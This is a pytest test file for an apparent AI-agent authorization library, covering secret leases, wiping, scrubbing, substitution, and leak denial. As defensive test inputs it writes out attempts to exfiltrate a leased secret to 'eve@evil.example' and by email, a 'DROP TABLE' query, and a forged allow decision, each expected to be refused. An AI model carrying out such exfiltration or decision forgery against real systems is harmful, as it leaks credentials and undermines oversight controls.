"""Secrets: leases and substitution as context managers, scrubbing, leak denial,
host providers, and no secret in any repr, str or exception."""

import base64
import gc
import hashlib
import hmac
import pickle
import urllib.parse

import pytest

import agentauthz as az
from agentauthz.testing import assert_denied


def lease_bytes(session, tool, name):
    """The secret's value as bytes (a test-only copy)."""
    d = session.check(tool)
    assert d, d
    with session.lease(d, name) as v:
        return bytes(v)


def encodings(secret):
    """Every form of a secret that must never show up in text."""
    b64 = base64.b64encode(secret).decode()
    return [secret.hex(), secret.hex().upper(), b64, b64.rstrip("="),
            base64.urlsafe_b64encode(secret).decode().rstrip("="),
            urllib.parse.quote_from_bytes(secret), secret.decode("latin-1"), repr(secret)[2:-1]]


def test_lease_context_manager_wipes_and_releases(work):
    d = work.check("db.query", args={"sql": "SELECT 1"})
    lease = work.lease(d, "db")
    assert lease.valid and lease.name == "db"
    with lease as value:
        assert len(value) == 32
        copy = bytes(value)
        assert memoryview(value).nbytes == 32
        assert hashlib.sha256(value).digest() == hashlib.sha256(copy).digest()
        assert value == copy and not (value != copy) and value != b"x" * 32
        assert hmac.compare_digest(value, copy)
        assert any(copy)
    # on exit: the buffer is zeroed and the lease released
    assert bytes(value) == b"\0" * 32
    assert not lease.valid
    assert "released" in repr(lease)
    lease.release()  # idempotent
    with pytest.raises(az.InvalidArgumentError):
        lease.value
    # the same secret can be leased again for the same allowed decision
    with work.lease(d, "db") as again:
        assert bytes(again) == copy


def test_lease_with_explicit_action(work):
    act = az.Action("db.query", args={"sql": "SELECT 2"})
    d = work.check(act)
    with work.lease(act, d, "db") as v:
        assert len(v) == 32
    with work.lease({"tool": "db.query"}, d, "db") as v:
        assert len(v) == 32
    with pytest.raises(TypeError):
        work.lease(d)
    with pytest.raises(TypeError):
        work.lease("db", d, "db")
    with pytest.raises(TypeError):
        work.lease(az.Decision("allow", "db", "", 1), "db")  # no action


def test_lease_refusals(work):
    allowed = work.check("db.query")
    denied = work.check("db.query", args={"sql": "DROP TABLE t"})
    assert denied.rule == "no-drop"
    with pytest.raises(az.RefusedError) as exc:
        work.lease(denied, "db")
    assert exc.value.code == -13
    forged = az.Decision("allow", "db", "", denied.seq, 0, denied.action, denied._raw)
    forged._raw.effect = 1
    with pytest.raises(az.RefusedError):
        work.lease(forged, "db")
    with pytest.raises(az.RefusedError) as exc:
        work.lease(allowed, "api")  # bound to http.get
    assert "not bound" in str(exc.value)
    with pytest.raises(az.NotFoundError):
        work.lease(allowed, "nope")
    with pytest.raises(az.RefusedError):
        work.lease(az.Action("http.get"), allowed, "api")  # another tool's decision


def test_session_end_wipes_held_lease(engine):
    s = engine.session("agent/1", "work")
    d = s.check("db.query")
    lease = s.lease(d, "db")
    value = lease.value
    assert any(bytes(value))
    s.close()
    assert not lease.valid
    lease.release()
    assert bytes(value) == b"\0" * 32
    with pytest.raises(az.SessionEndedError):
        s.lease(d, "db")


def test_lease_after_session_end_raises(engine):
    s = engine.session("agent/1", "work")
    d = s.check("db.query")
    lease = s.lease(d, "db")
    s.revoke()
    with pytest.raises(az.SessionEndedError):
        with lease:
            pass
    s.close()


def test_leases_released_by_garbage_collection(work):
    d = work.check("db.query")
    for _ in range(200):
        work.lease(d, "db").value
    gc.collect()
    with work.lease(d, "db") as v:
        assert len(v) == 32


def test_secret_bytes_cannot_be_pickled(work):
    d = work.check("db.query")
    with work.lease(d, "db") as v:
        with pytest.raises(TypeError):
            pickle.dumps(v)


def test_leak_is_denied(work):
    secret = lease_bytes(work, "db.query", "db")
    d = work.check("send_email", args={"to": ["a@corp.example"], "body": secret.hex()})
    assert (d.effect, d.rule) == ("deny", "leak")
    assert_denied(work, "send", rule="leak", destination="corp.example",
                  payload=b"x" + secret + b"y")
    assert_denied(work, "send", rule="leak", destination="corp.example",
                  payload=base64.b64encode(secret))
    assert work.check("send", destination="corp.example", payload=b"harmless")


def test_scrub(work):
    secret = lease_bytes(work, "db.query", "db")
    text = "raw %s hex %s b64 %s end" % (secret.decode("latin-1"), secret.hex(),
                                         base64.b64encode(secret).decode())
    out = work.scrub(text.encode("latin-1"))
    assert isinstance(out, bytes)
    assert out.count(b"[redacted:db]") == 3
    assert secret not in out and secret.hex().encode() not in out
    s_out = work.scrub("token=" + secret.hex())
    assert s_out == "token=[redacted:db]"
    assert work.scrub("") == ""
    assert work.scrub(b"\0\xff") == b"\0\xff"
    assert work.scrub("\udcff\u00e9") == "\udcff\u00e9"  # lossless for odd strings


def test_substitute(work):
    api = lease_bytes(work, "http.get", "api")
    d = work.check("http.get")
    sub = work.substitute(d, "Authorization: Bearer ${secret:api}\n")
    with sub as buf:
        assert bytes(buf) == b"Authorization: Bearer " + api + b"\n"
        assert api.hex() not in repr(buf) and "redacted" in str(buf)
    assert bytes(buf) == b"\0" * len(buf)
    assert "released" in repr(sub)
    with pytest.raises(az.RefusedError):
        work.substitute(d, "${secret:api} ${secret:db}")  # db is not for http.get
    with pytest.raises(az.InvalidArgumentError):
        work.substitute(d, "${secret:api")
    with work.substitute(d.action, d, b"no placeholders") as buf:
        assert bytes(buf) == b"no placeholders"


def test_token_secret_verifies(engine, work):
    token = lease_bytes(work, "http.get", "tok").decode()
    claims = az.verify_token(engine.public_key_text, token, audience="https://api.example")
    assert claims["session"] == work.id
    assert claims["identity"] == "agent/1" and claims["task"] == "work"
    assert "http.get" in claims["tools"]
    with pytest.raises(az.AudienceError):
        az.verify_token(engine.public_key, token, audience="https://other.example")


def test_host_provider(policy):
    from conftest import POLICY

    issued, revoked = [], []
    value = b"ghp_0123456789abcdefghij"

    def issue(req):
        issued.append(req)
        return value

    e = policy(POLICY, secret_issue=issue, secret_revoke=revoked.append)
    with e.session("agent/1", "host") as s:
        assert issued[0]["secret"] == "gh" and issued[0]["session"] == s.id
        assert lease_bytes(s, "git.push", "gh") == value
        assert s.scrub(b"push " + value) == b"push [redacted:gh]"
    assert len(revoked) == 1 and revoked[0]["secret"] == "gh"


@pytest.mark.parametrize("bad", [
    lambda req: 1 / 0,            # raises
    lambda req: b"",              # empty
    lambda req: b"x" * 5000,      # over the 4096-byte cap
    lambda req: "not bytes",      # wrong type
])
def test_host_provider_failures_refuse(policy, bad):
    from conftest import POLICY

    e = policy(POLICY, secret_issue=bad)
    with pytest.raises(az.ProviderError):
        e.session("agent/1", "host")


def test_no_secret_in_repr_str_or_exceptions(engine, work):
    secret = lease_bytes(work, "db.query", "db")
    texts = []
    d = work.check("db.query", args={"sql": "SELECT '%s'" % secret.hex()})
    texts += [repr(d), str(d), repr(d.action), str(d.action)]
    lease = work.lease(work.check("db.query"), "db")
    with lease as v:
        texts += [repr(v), str(v), repr(lease), str(lease), "%s %r" % (v, v)]
        texts += [repr(work), str(work), repr(engine)]
    exc_list = []
    for call in [lambda: work.lease(d, "db"),                # refused: the leak deny
                 lambda: work.lease(work.check("db.query"), "api"),
                 lambda: work.substitute(work.check("db.query"), "${secret:db}x${secret:api}"),
                 lambda: az.verify_token(engine.public_key, secret.hex())]:
        with pytest.raises(az.AgentAuthzError) as exc:
            call()
        exc_list.append(exc.value)

    @az.guard(work)
    def send(to, body):
        raise AssertionError("must not run")

    with pytest.raises(az.Denied) as exc:
        send(to="eve@evil.example", body=secret.hex())
    exc_list.append(exc.value)
    for e in exc_list:
        texts += [repr(e), str(e), repr(e.args)]
    blob = "\n".join(texts)
    for form in encodings(secret):
        assert form not in blob
